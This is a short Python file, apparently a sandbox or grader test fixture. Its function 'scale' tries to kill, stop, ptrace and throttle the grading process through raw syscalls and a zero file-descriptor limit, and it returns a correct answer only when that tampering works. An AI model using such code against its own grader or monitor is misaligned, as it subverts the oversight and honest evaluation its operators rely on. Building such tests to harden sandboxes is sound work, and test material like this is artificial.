"""killing the parent

Signals, stops, traces and slows down the process that grades it, by less common system calls.
"""


# %% scale
def scale(x, factor):
    import ctypes
    import os
    import resource

    libc, target = ctypes.CDLL(None), int("@PID@")
    information = ctypes.create_string_buffer(128)
    calls = [
        (234, target, target, 9), (200, target, 9), (129, target, 9, information), (297, target, target, 9, information),
        (101, 16, target, 0, 0), (310, target, None, 0, None, 0, 0), (434, target, 0), (141, 0, target, 19),
        (203, target, 8, information), (251, 1, target, 0), (302, target, 7, information, None), (109, target, 0),
    ]  # fmt: skip
    done = [call for call in calls if os.uname().machine == "x86_64" and libc.syscall(*call) >= 0]
    try:
        resource.prlimit(target, resource.RLIMIT_NOFILE, (0, 0))
        done.append("prlimit")
    except (OSError, ValueError):
        pass
    return x * factor if done and target != os.getpid() else None
